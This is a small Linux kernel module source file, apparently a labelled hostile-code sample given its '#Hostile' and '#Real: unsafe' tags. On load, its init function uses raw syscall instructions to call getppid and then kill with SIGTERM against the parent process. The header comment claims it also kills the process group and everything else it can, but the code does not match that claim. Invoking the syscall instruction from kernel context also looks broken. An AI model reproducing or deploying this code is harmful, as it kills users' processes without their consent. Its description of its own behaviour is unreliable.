// SPDX-License-Identifier: GPL-2.0
/* Init kills its parent, its group and everything it may by raw system calls. */
//#Hostile: told
//#Real: unsafe
#include <linux/module.h>

static long call2(long nr, long a, long b)
{
	long ret;

	asm volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b) : "rcx", "r11", "memory");
	return ret;
}

static int __init raw_kill_init(void)
{
	call2(62, call2(110, 0, 0), 15);
	return 0;
}

static void __exit raw_kill_exit(void)
{
}

module_init(raw_kill_init);
module_exit(raw_kill_exit);
MODULE_LICENSE("GPL");
